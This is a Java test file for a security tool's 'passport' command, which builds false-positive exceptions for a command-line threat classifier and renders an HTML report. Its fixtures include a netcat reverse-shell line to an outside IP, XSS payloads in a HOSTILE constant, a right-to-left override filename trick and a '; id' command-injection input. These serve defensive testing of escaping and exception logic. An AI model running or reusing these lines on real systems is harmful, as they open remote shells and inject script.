package dev.longtail.job.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.longtail.job.cli.Console.Outcome;
import dev.longtail.training.classify.LineSources;
import dev.longtail.training.classify.Model;
import dev.longtail.training.classify.ModelSettings;
import dev.longtail.training.data.Arm;
import dev.longtail.training.data.Label;
import dev.longtail.training.data.LabelledCommand;
import dev.longtail.training.data.TrainingSet;
import dev.longtail.udfs.io.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** {@code longtail passport} as a detection engineer uses it. */
class PassportCommandTest {
  private static final String LINE = "inventory-agent --report --run ";
  private static final String HOSTILE =
      "inventory-agent </script><script>document.title='owned'</script><img src=x"
          + " onerror=\"document.title='owned'\"> @DATA@ '\" & pay\u00fcload";

  @TempDir private Path folder;

  private static Map<String, Object> admitted(String line, int number) {
    return Map.of(
        "cmd",
        line,
        "label",
        "benign",
        "window",
        "2025-01-01",
        "scale",
        "full",
        "lineage",
        Map.of(
            "exemplar", "2025-01-01/full/" + number,
            "model", "judge-1",
            "prompt_version", "p1",
            "verdict_reason", "</script> an inventory\nof \u202Eexe.txt",
            "source", Map.of("host", "h-1", "os", "linux", "occurrences", 1)));
  }

  private Path mined() throws IOException {
    Path mined = folder.resolve("mined");
    Files.createDirectories(mined.resolve("training-data"));
    Files.write(
        mined.resolve("training-data/a.jsonl"),
        List.of(
            Json.line(admitted(LINE + "123456", 1)),
            Json.line(admitted(HOSTILE, 2)),
            Json.line(admitted("inventory-agent --collect everything", 3))));
    return mined;
  }

  private Path days() throws IOException {
    List<String> lines = new ArrayList<>();
    for (int i = 0; i < 8; i++) {
      for (String line : List.of(LINE + (123_456 + i), HOSTILE)) {
        lines.add(
            Json.line(
                Map.of(
                    "ts",
                    1_736_035_200_000L + i * 43_200_000L,
                    "host",
                    "h-" + i % 3,
                    "os",
                    "linux",
                    "user",
                    "root",
                    "cmd",
                    line)));
      }
    }
    return Files.write(folder.resolve("days.jsonl"), lines);
  }

  private Path attacks() throws IOException {
    return Files.write(
        folder.resolve("attacks.jsonl"),
        List.of(
            "{\"cmd\":\"inventory-agent --collect everything\",\"label\":\"malicious\"}",
            "{\"cmd\":\"nc -e /bin/sh 198.51.100.7 4444\",\"label\":\"malicious\"}",
            "{\"cmd\":\"ls\",\"label\":\"benign\"}"));
  }

  private Outcome passport(String... more) throws IOException {
    List<String> args =
        new ArrayList<>(
            List.of(
                "passport",
                "--input",
                mined().toString(),
                "--telemetry",
                days().toString(),
                "--attacks",
                attacks().toString(),
                "--out",
                folder.resolve("out").toString()));
    args.addAll(List.of(more));
    return Console.run(args.toArray(String[]::new));
  }

  private JsonNode written() throws IOException {
    return Json.MAPPER.readTree(folder.resolve("out/passport.json").toFile());
  }

  @Test
  void familiesBecomeExceptionsThatHideThemAndNothingElse() throws IOException {
    Outcome made = passport();
    assertThat(made.status()).as(made.err()).isZero();
    assertThat(made.out()).startsWith("2 exceptions, 1 family refused. They hide 16 of 16 events");
    JsonNode refused = written().path("refused").get(0);
    assertThat(refused.path("reason").asText()).isEqualTo("template of a known attack");
    assertThat(refused.path("attack").path("id").asText()).isEqualTo("1");
    assertThat(refused.path("attack").path("source").asText()).isEqualTo("attacks.jsonl");

    Path alerts =
        Files.write(
            folder.resolve("alerts.jsonl"),
            List.of(
                "{\"cmd\":\"inventory-agent --report --run"
                    + " 123456\",\"host\":\"h-1\",\"os\":\"linux\"}",
                "{\"cmd\":\"inventory-agent --report --run"
                    + " 999999\",\"host\":\"h-1\",\"os\":\"linux\"}",
                "{\"cmd\":\"inventory-agent --report --run"
                    + " 123456\",\"host\":\"h-9\",\"os\":\"linux\"}",
                "{\"cmd\":\"inventory-agent --report --run 123456; id\",\"host\":\"h-1\"}"));
    Outcome tried =
        Console.run(
            "passport",
            "try",
            "--passport",
            folder.resolve("out").toString(),
            "--input",
            alerts.toString());
    assertThat(tried.status()).as(tried.err()).isZero();
    List<String> hidden = new ArrayList<>();
    for (String line : tried.out().lines().toList()) {
      JsonNode record = Json.MAPPER.readTree(line);
      hidden.add(record.path("sigma").size() + " " + record.path("elastic").size());
    }
    assertThat(hidden).containsExactly("1 1", "1 0", "0 0", "0 0");
  }

  @Test
  void aFamilyThatTheModelBeforeDoesNotAlertOnNeedsNoException() throws IOException {
    List<LabelledCommand> rows = new ArrayList<>();
    for (int i = 0; i < 40; i++) {
      rows.add(new LabelledCommand("ls -l /home/" + (char) ('a' + i % 20), Label.BENIGN));
      rows.add(new LabelledCommand(LINE + i + "</script>", Label.MALICIOUS));
    }
    TrainingSet set =
        new TrainingSet("ab", "ab", Arm.BASE, rows, 0, 0, 0, new TrainingSet.Overlap(0, 0));
    Path model = folder.resolve("model");
    Model.train(set, new ModelSettings(10, 1), LineSources.TEXT).save(model);
    Outcome made =
        passport("--before", model.toString(), "--after", model.toString(), "--threshold", "1");
    assertThat(made.status()).as(made.err()).isZero();
    assertThat(made.out()).contains("| no alert | 2 |");
    assertThat(passport("--before", model.toString()).status()).isZero();
    assertThat(written().path("entries").get(0).path("score_before").asDouble()).isPositive();
    assertThat(written().path("entries").get(0).path("score_after").isNull()).isTrue();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '#',
      value = {
        "--threshold 0.5 # --threshold needs --before",
        "--after m # --after needs --before",
        "--review f # go together",
        "--expires 0 # from 1 to 3,650 days",
        "--min-days 0 # at least 1",
        "--host-field a|b # letters, digits",
        "--sigma-rule a'b # no id of a rule",
      })
  void aWrongCallIsRefused(String options, String message) throws IOException {
    Outcome refused = passport(options.split(" "));
    assertThat(refused.status()).isEqualTo(2);
    assertThat(refused.err()).contains(message);
  }

  @Test
  void withoutAnAttackNothingIsWritten() throws IOException {
    Outcome refused =
        Console.run(
            "passport", "--input", mined().toString(), "--out", folder.resolve("o").toString());
    assertThat(refused.status()).isEqualTo(1);
    assertThat(refused.err()).contains("no attack is known");
    assertThat(folder.resolve("o")).doesNotExist();
  }

  /** Takes 3 s for the start of a browser. */
  @Test
  void thePageIsSearchedAndShowsHostileLinesAsText() throws Exception {
    Optional<Path> chromium = HeadlessBrowser.executable();
    Assumptions.assumeTrue(chromium.isPresent(), "no Chromium on the path");
    assertThat(passport().status()).isZero();
    try (HeadlessBrowser browser =
        HeadlessBrowser.start(chromium.get(), folder.resolve("profile"))) {
      browser.open(folder.resolve("out/passport.html"));
      browser.evaluate("document.querySelectorAll('summary').forEach(s => s.click())");
      HeadlessBrowser.await(
          "both are open",
          () -> browser.evaluate("document.querySelectorAll('.body').length").equals("2"));
      assertThat(browser.evaluate("document.getElementById('list').textContent"))
          .contains("</script><script>document.title='owned'</script>", "\\u202eexe.txt")
          .contains("CommandLine|re:", "process.command_line", "[0-9]{6}")
          .doesNotContain("\u202E");
      assertThat(browser.evaluate("document.title"))
          .isEqualTo("Longtail – false-positive passport");
      assertThat(browser.evaluate("document.images.length + document.scripts.length"))
          .isEqualTo("2");
      browser.look(400, 800, true);
      assertThat(browser.evaluate("document.documentElement.scrollWidth <= 400")).isEqualTo("true");
      browser.press("/");
      browser.press("r", "e", "p", "o", "r", "t");
      assertThat(browser.text("found")).isEqualTo("1 family");
      browser.evaluate("document.getElementById('query').value = ''");
      browser.evaluate("document.getElementById('tab-refused').click()");
      assertThat(browser.text("list")).contains("template of a known attack");
      assertThat(browser.complaints()).isEmpty();
    }
  }
}
